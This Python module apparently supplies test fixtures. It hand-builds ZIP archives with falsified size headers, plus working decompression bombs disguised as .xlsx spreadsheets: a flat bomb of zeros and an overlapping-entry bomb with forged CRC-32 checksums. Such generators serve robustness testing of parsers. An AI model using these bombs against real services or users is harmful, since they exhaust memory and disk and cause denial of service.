"""Archives by hand, with headers that lie. A ZIP file is entries, each behind a header, and a directory of them."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Sequence
from dataclasses import dataclass

from hostile.books import zeros_deflated

LOCAL, CENTRAL, END = b"PK\x03\x04", b"PK\x01\x02", b"PK\x05\x06"
STORED, DEFLATED = 0, 8


@dataclass(frozen=True)
class Entry:
    """An entry as its headers tell it. ``at``: where it starts, from the beginning of the file."""

    name: bytes
    packed: int
    size: int
    checksum: int
    at: int
    method: int = DEFLATED
    flags: int = 0


def local(entry: Entry) -> bytes:
    """The header in front of the contents."""
    return struct.pack(
        "<4sHHHHHIIIHH", LOCAL, 20, entry.flags, entry.method, 0, 33, entry.checksum, entry.packed, entry.size,
        len(entry.name), 0,
    ) + entry.name  # fmt: skip


def directory(entries: Sequence[Entry], at: int) -> bytes:
    """The directory, which starts ``at`` so many bytes."""
    listed = b"".join(
        struct.pack(
            "<4sHHHHHHIIIHHHHHII", CENTRAL, 20, 20, one.flags, one.method, 0, 33, one.checksum, one.packed,
            one.size, len(one.name), 0, 0, 0, 0, 0, one.at,
        ) + one.name
        for one in entries
    )  # fmt: skip
    count = min(len(entries), 0xFFFF)
    return listed + struct.pack("<4sHHHHIIH", END, 0, 0, count, count, len(listed), at, 0)


def archive(parts: Sequence[tuple[bytes, bytes]], *, told_size: int | None = None) -> bytes:
    """An archive of stored entries. ``told_size``: what the headers say of their sizes."""
    out, entries = b"", []
    for name, content in parts:
        size = len(content) if told_size is None else told_size
        entry = Entry(name, len(content), size, zlib.crc32(content), len(out), STORED)
        entries.append(entry)
        out += local(entry) + content
    return out + directory(entries, len(out))


def flat_bomb(megabytes: int, *, told_size: int | None = None) -> bytes:
    """One sheet of zero bytes. ``told_size``: what the headers say of its size."""
    data, checksum = zeros_deflated(megabytes)
    size = megabytes * 1024 * 1024 if told_size is None else told_size
    needed = [(b"[Content_Types].xml", b"<Types/>"), (b"xl/workbook.xml", b"<workbook/>")]
    out, entries = b"", []
    for name, content in needed:
        entry = Entry(name, len(content), len(content), zlib.crc32(content), len(out), STORED)
        entries.append(entry)
        out += local(entry) + content
    bomb = Entry(b"xl/worksheets/sheet1.xml", len(data), size, checksum, len(out))
    out += local(bomb) + data
    return out + directory([*entries, bomb], len(out))


def overlapping_bomb(count: int, megabytes: int) -> bytes:
    """Many entries over one and the same compressed content.

    Each entry begins with an uncompressed block that holds the header of the next one, and goes on into it; so
    all of them end in the same bytes, and what comes out is ``count`` times what is stored.
    """
    names = [b"[Content_Types].xml", b"xl/workbook.xml"]
    names += [b"xl/worksheets/sheet%d.xml" % number for number in range(count - len(names))]
    data, checksum = zeros_deflated(megabytes)
    size = megabytes * 1024 * 1024
    made: list[Entry] = []
    tail = b""  # everything behind the header of the entry that was made last
    for name in reversed(names):
        if made:
            header = local(made[-1])
            quoted = b"\x00" + struct.pack("<HH", len(header), len(header) ^ 0xFFFF) + header
            checksum = _joined(header, checksum, size)
            size += len(header)
            tail = quoted + tail
        else:
            tail = data
        made.append(Entry(name, len(tail), size, checksum, 0))
    # Only now is it known where each entry starts.
    total = len(local(made[-1])) + len(tail)
    placed = [
        Entry(one.name, one.packed, one.size, one.checksum, total - one.packed - len(local(one)))
        for one in reversed(made)
    ]
    return local(made[-1]) + tail + directory(placed, total)


def _joined(header: bytes, checksum: int, size: int) -> int:
    """The checksum of a header followed by content of which only checksum and size are known.

    CRC-32 is linear: what the header adds is its own checksum, moved on over ``size`` zero bytes.
    """
    zeros = bytes(min(size, 1 << 20))
    moved, plain, left = zlib.crc32(header), 0, size
    while left:
        piece = zeros[:left]
        moved, plain = zlib.crc32(piece, moved), zlib.crc32(piece, plain)
        left -= len(piece)
    return moved ^ plain ^ checksum
